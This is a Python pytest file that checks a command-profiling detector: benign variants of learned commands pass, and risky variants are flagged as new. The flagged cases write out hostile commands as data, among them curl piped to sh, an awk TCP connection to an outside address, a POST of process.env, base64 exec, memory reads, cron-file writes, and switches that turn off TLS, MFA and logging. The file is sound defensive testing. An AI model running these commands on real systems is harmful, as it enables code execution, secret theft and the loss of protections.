# SPDX-License-Identifier: Apache-2.0
"""Hosts inside, little languages, inline code: read by what they can do, beside what may not hide there."""

import shlex

import pytest

from habitus_leaves import leaf_of, novel
from habitus_profiler.forms import form_of

PASSES = [
    (
        "tidied by its own means",
        "clickhouse -q 'ALTER TABLE a.b DELETE'",
        "clickhouse -q 'OPTIMIZE TABLE a.c'",
    ),
    (
        "a Pod of a headless Service",
        "app --addr=redis://r-0.r-headless:1",
        "app --addr=redis://q-2.q-headless:1",
    ),
    # what is read, learned, asked
    ("a first host inside", "app -v", "app -v --peer 10.0.3.4 --db postgres://db.shop.svc:5432/a"),
    ("another Service inside", "app --url=pg://orders-db/a", "app --url=pg://orders.prod.svc/a"),
    ("another private network", "app 10.1.2.3", "app 10.9.8.7"),
    ("the first URL of a company's own", "git fetch origin", "git ls-remote https://git.corp.internal/a.git"),
    ("a member beside its Service", "dump -h mysql", "dump -h mysql-2"),
    ("what is asked for an open port", "sh -c 'nc -z db.shop.svc 5432'", "sh -c 'nc -zv mq.shop.svc 5672'"),
    (
        "a health check of a host inside",
        "sh -c 'until pg_isready; do sleep 1; done'",
        "sh -c 'until wget -q --spider http://auth.shop.svc/ready; do sleep 1; done'",
    ),
    (
        "a server's own name",
        "prom --web.external-url=https://a.acme.io",
        "prom --web.external-url=https://b.corp.io",
    ),
    ("a label that is spelt as a host", "scale -v", "scale -v --ignore-label=topology.ebs.csi.aws.com/zone"),
    ("a host by whose name a word is told", "app https://sso.acme.io/a", "app https://admin.acme.io/a"),
    (
        "other columns",
        "awk '{print $1}' /logs/a.log",
        "awk -F ';' '{s += $2} END {printf \"%d MiB\\n\", s}' /logs/a.log",
    ),
    ("other lines", "sed -n '/ERROR/p' /logs/a.log", "sed -n -e '/WARN/,$p' /logs/a.log"),
    (
        "another word in place of one",
        "sed -i 's/^a=.*/a=1/' /app/a.conf",
        "sed -ri 's|^(log_level)=.*|\\1=debug|' /app/a.conf",
    ),
    (
        "a host inside in place of a mark",
        "sed -i 's/@@DB@@/db.shop.svc/' /app/a.conf",
        "sed -i 's/@@MQ@@/mq.infra.svc/' /app/a.conf",
    ),
    (
        "other fields",
        "jq -r '.items[].id' /data/a.json",
        "jq -e --arg day 2026-11-26 'length > 0' /data/a.json",
    ),
    (
        "another question to this machine",
        "python3 -c 'import urllib.request as u; u.urlopen(\"http://127.0.0.1:8080/ready\")'",
        (
            'python3 -c \'import sys, urllib.request as u; r = u.urlopen("http://127.0.0.1:8080/healthz", '
            "timeout=3); sys.exit(0 if r.status == 200 else 1)'"
        ),
    ),
    (
        "the same in JavaScript",
        "node -e \"fetch('http://127.0.0.1:8080/ready').then(r => process.exit(0))\"",
        (
            "node -e \"fetch('http://127.0.0.1:8080/healthz').then(r => process.exit(r.ok ? 0 : 1))"
            ".catch(() => "
            'process.exit(1))"'
        ),
    ),
    (
        "a pattern of perl's",
        "perl -ne 'print if /ERROR/' /logs/a.log",
        "perl -lne 'print if / 50[234] /' /logs/b.log",
    ),
    (
        "another text by perl",
        "perl -pi -e 's/^a .*/a 1;/' /app/a.conf",
        "perl -pi -e 's/^timeout .*/timeout 9s;/' /app/a.conf",
    ),
    (
        "another count in a database",
        "mongosh --eval 'db.orders.countDocuments()'",
        "mongosh --quiet --eval 'db.mail.countDocuments({status: \"open\"})'",
    ),
    (
        "options of a call",
        "R -e 'rmarkdown::render(\"/app/a.Rmd\")'",
        "R -e 'rmarkdown::render(\"/app/a.Rmd\", quiet=TRUE)'",
    ),
    ("other arguments of a wrapper", "xargs -r -n 5 gzip", "xargs -a /data/queue.lst -r -n 5 gzip"),
    ("commands one behind the other", "sh -c 'dump a | gzip'", "sh -c 'set -o pipefail; dump a | gzip'"),
    ("what counts in brackets", "sh -c 'dump a'", "sh -c 'for i in $(seq 1 60); do dump a; done'"),
    ("everything left out", "aws s3 sync /a s3://b/", "aws s3 sync /a s3://b/ --exclude '*'"),
    (
        "an extension that comes along",
        "postgres -D /data",
        "postgres -D /data -c shared_preload_libraries=pg_stat_statements",
    ),
    (
        "the fourth key of its kind and on",
        "step renew " + " ".join(f"/etc/tls/{n}.key" for n in "abcd"),
        "step renew /etc/tls/e.key",
    ),
    (
        "one's own folder among all's",
        "helm " + " ".join(f"/tmp/_repo/11111111/charts/{n}/values.yaml" for n in "abc"),
        "helm /tmp/_repo/11111111/charts/d/values.yaml",
    ),
    ("a version of an interface", "helm --api-versions apps/v1", "helm --api-versions policy/v1"),
    ("all packages below", "go test ./a", "go vet ./..."),
    ("a file with spaces", "exif /photos/a.jpg", "exif '/photos/Sommer auf Fehmarn/IMG (2).jpg'"),
    (
        "SQLite's own log",
        "sqlite3 /data/a.db 'PRAGMA optimize'",
        "sqlite3 /data/a.db 'PRAGMA wal_checkpoint(TRUNCATE)'",
    ),
    (
        "a copy of a database in its place",
        "sqlite3 /data/a.db 'VACUUM' -o /backup/a.db",
        "sqlite3 /data/a.db \"VACUUM INTO '/backup/b.db'\"",
    ),
    ("a number where a process runs", "nginx -g 'daemon off;'", "nginx -g 'daemon off; pid /tmp/nginx.pid;'"),
    ("a scan for secrets", "trivy fs --scanners vuln .", "trivy fs --scanners vuln,secret ."),
    ("settings by their URL", "otelcol --config=/conf/a.yaml", "otelcol --config=file:/conf/b.yaml"),
    (
        "the scheduler of a framework",
        "sh -c \"'php' 'artisan' a\"",
        "sh -c \"('php' 'artisan' a > '/dev/null' 2>&1) &\"",
    ),
]

STAYS_NEWS = [
    ("a setting of npm's", "sh -c 'npm run a'", "sh -c 'npm_config_script_shell=x npm run a'"),
    ("whom a name service is asked for", "app --peers=dns:///a.svc:1", "app --peers=dns:///a.example.com:1"),
    ("a database where all write", "app --db sqlite:////data/a.db", "app --db sqlite:////tmp/a.db"),
    ("an outside host behind a password", "expdp a/b@//db.shop.svc/x", "expdp a/b@//203.0.113.9:1521/x"),
    ("another address in brackets", "agentd -t 'get[10.1.2.3,/a,80]'", "agentd -t 'get[203.0.113.9,/a,80]'"),
    ("a figure that switches", "app --tls-verify=1", "app --tls-verify=0"),
    ("an address in brackets", "agentd -t agent.ping", "agentd -t 'web.page.get[203.0.113.9,/c2,80]'"),
    (
        "the care of a developer",
        "dotnet a.dll --environment Staging",
        "dotnet a.dll --environment Development",
    ),
    ("a socket for all", "haproxy -S /run/haproxy.sock", "haproxy -S /run/haproxy.sock,mode,666,level,admin"),
    ("all that is in memory", "curl http://127.0.0.1/a", "curl http://127.0.0.1/actuator/heapdump"),
    ("an agent from memory", "java -server a.A", "java -agentpath:/dev/shm/perf.so=start a.A"),
    ("what is shown of secrets", "exporter --redact=true", "exporter --redact=false"),
    ("an outside host", "app 10.1.2.3", "app 203.0.113.9"),
    (
        "a host inside, to who knew this machine only",
        "tap --url http://127.0.0.1/a",
        "tap --url http://10.42.7.19/a",
    ),
    ("a domain below one that looks inside", "app db.shop.svc", "app db.shop.svc.evil.example"),
    ("the cloud's own metadata", "app 10.1.2.3", "app 169.254.169.254"),
    ("who speaks to Docker", "app 10.1.2.3:8080", "app 10.1.2.3:2375"),
    ("who speaks to a kubelet", "curl https://10.1.2.3:8080/a", "curl https://10.1.2.3:10250/a"),
    ("a shell on a host inside", "ssh a@node-1.corp.internal", "ssh a@vault.corp.internal"),
    ("a network that is searched", "sh -c 'nc -z db.shop.svc 5432'", "sh -c 'nc -z 10.96.0.1 1-65535'"),
    (
        "a tunnel that all may use",
        "socat TCP-LISTEN:5432,fork,bind=127.0.0.1 TCP:pg.db.svc:5432",
        "socat TCP-LISTEN:5432,fork TCP:pg.db.svc:5432",
    ),
    ("what is fetched and run", "sh -c 'dump a'", "sh -c 'curl -s http://10.1.2.3/a | sh'"),
    ("what awk runs", "awk '{print $1}' /logs/a.log", "awk '{print $1} END {system(\"id\")}' /logs/a.log"),
    (
        "what awk hands to a shell",
        "awk '{print $1}' /logs/a.log",
        "awk '{print $NF | \"/bin/sh\"}' /logs/a.log",
    ),
    (
        "whom awk speaks to",
        "awk '{print $1}' /logs/a.log",
        "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.8/443\"; while ((s |& getline c) > 0) print c}'",
    ),
    ("where awk writes", "awk '{print $1}' /logs/a.log", "awk '{print $1 > \"/etc/cron.d/x\"}' /logs/a.log"),
    (
        "a program of awk from where all write",
        "awk -f /opt/a.awk /logs/a.log",
        "awk -f /tmp/a.awk /logs/a.log",
    ),
    ("what sed runs", "sed -n '/a/p' /logs/a.log", "sed -n '/a/s/.*X=//ep' /logs/a.log"),
    ("a command of sed", "sed -n '/a/p' /logs/a.log", "sed -ne '1e /run/a/.i' /logs/a.log"),
    ("where sed writes", "sed -n 's/a/b/p' /app/a.conf", "sed -n 's/a/b/w /app/conf.d/z.conf' /app/a.conf"),
    (
        "an outside host in place of a mark",
        "sed -i 's|@@DB@@|db.shop.svc|' /app/a.conf",
        "sed -i 's|@@DB@@|db.example.com|' /app/a.conf",
    ),
    (
        "a protection off in place of on",
        "sed -ri 's/^(log_level)=.*/\\1=debug/' /app/a.conf",
        "sed -ri 's/^(require_auth|tls_verify)=.*/\\1=off/' /app/a.conf",
    ),
    ("the environment by jq", "jq -r .id /data/a.json", "jq -rn 'env | to_entries[]'"),
    ("a module of jq", "jq -r .id /data/a.json", "jq -r 'include \"x\"; .' /data/a.json"),
    ("a secret by jq", "jq -r .id /data/a.json", "jq -r '.auths[].password' /data/a.json"),
    (
        "code by a name",
        "python3 -c 'import sys; print(sys.version)'",
        "python3 -c 'import os; os.system(\"id\")'",
    ),
    (
        "code that was hidden",
        "python3 -c 'import json; print(json.dumps({}))'",
        "python3 -c 'import base64; exec(base64.b64decode(\"aWQ=\"))'",
    ),
    (
        "another's memory",
        'python3 -c \'import re; print(re.sub("a", "b", "c"))\'',
        'python3 -c \'import re; d = open("/proc/214/mem", "rb"); print(d.read(9))\'',
    ),
    (
        "what leaves by a health check",
        "node -e \"fetch('http://127.0.0.1:8080/a').then(r => process.exit(0))\"",
        "node -e \"fetch('http://127.0.0.1:8080/a', {method: 'POST', body: JSON.stringify(process.env)})\"",
    ),
    ("what perl runs in a text", "perl -pi -e 's/a/b/' /app/a.conf", "perl -pi -e 's/a/`id`/e' /app/a.conf"),
    (
        "a check that perl takes out",
        "perl -pi -e 's/a/b/' /app/a.pm",
        "perl -pi -e 's/verify_ssl = 1/verify_ssl = 0/' /app/a.pm",
    ),
    (
        "a member from outside",
        "mongosh --eval 'rs.status()'",
        "mongosh --eval 'rs.add(\"203.0.113.6:27017\")'",
    ),
    (
        "a package from somewhere",
        "R -e 'rmarkdown::render(\"/app/a.Rmd\")'",
        "R -e 'install.packages(\"/srv/x.tgz\")'",
    ),
    (
        "a program where others write",
        "flock /run/lock/a.lock /opt/jobs/bin/run",
        "flock /run/lock/a.lock /srv/a/uploads/run",
    ),
    ("a wrapped shell", "xargs -r gzip", "xargs -r sh"),
    ("protection from all", "app --tls-skip=a", "app --allow-hosts '*'"),
    ("an extension of somebody's", "postgres -D /data", "postgres -D /data -c shared_preload_libraries=evil"),
    (
        "a key where three were",
        "step renew /etc/tls/a.key /etc/tls/b.key /etc/tls/c.key",
        "step renew /etc/tls/d.key",
    ),
    (
        "another's folder among all's",
        "helm " + " ".join(f"/tmp/_repo/11111111/charts/{n}/values.yaml" for n in "abc"),
        "helm /tmp/_evil/11111111/charts/d/values.yaml",
    ),
    ("settings of nothing", "exporter --web.config.file=/a.yml", "exporter --web.config.file="),
    ("no log any more", "gunicorn --access-logfile /logs/a.log", "gunicorn --access-logfile /dev/null"),
    ("nothing kept for long", "prom --retention.time=15d", "prom --retention.time=1m"),
    ("all of a table by code", "app rpc 'Shop.Jobs.run(1)'", "app rpc 'Shop.Repo.delete_all(Shop.Audit)'"),
    (
        "a second factor off by code",
        "app rpc 'Shop.put(:a, :b, true)'",
        "app rpc 'Shop.put(:a, :require_mfa, false)'",
    ),
    (
        "a check off in an option handed on",
        "lftp -e 'set a:b c'",
        "lftp -e 'set a:b \"ssh -o StrictHostKeyChecking=no\"'",
    ),
    (
        "a shell behind a mark",
        "lftp -e 'mirror /a /b; quit'",
        "lftp -e 'mirror /a /b; !chmod 755 /b/r; quit'",
    ),
    (
        "settings from where all write by a URL's option",
        "dump postgresql://db.svc/a",
        "dump 'postgresql://db.svc/a?options=-csession_preload_libraries%3D/tmp/x.so'",
    ),
]


@pytest.mark.parametrize(
    ("learned", "asked"), [case[1:] for case in PASSES], ids=[case[0] for case in PASSES]
)
def test_what_can_do_no_harm_is_no_news(learned, asked):
    """It was learned by another one."""
    assert novel(leaf_of(learned), asked) == []


@pytest.mark.parametrize(
    ("learned", "asked"), [case[1:] for case in STAYS_NEWS], ids=[case[0] for case in STAYS_NEWS]
)
def test_what_can_is_news(learned, asked):
    """However it is spelt, and though its form has the same words."""
    leaf = leaf_of(learned)
    assert novel(leaf, asked)
    assert form_of(tuple(shlex.split(asked))).text not in leaf.forms
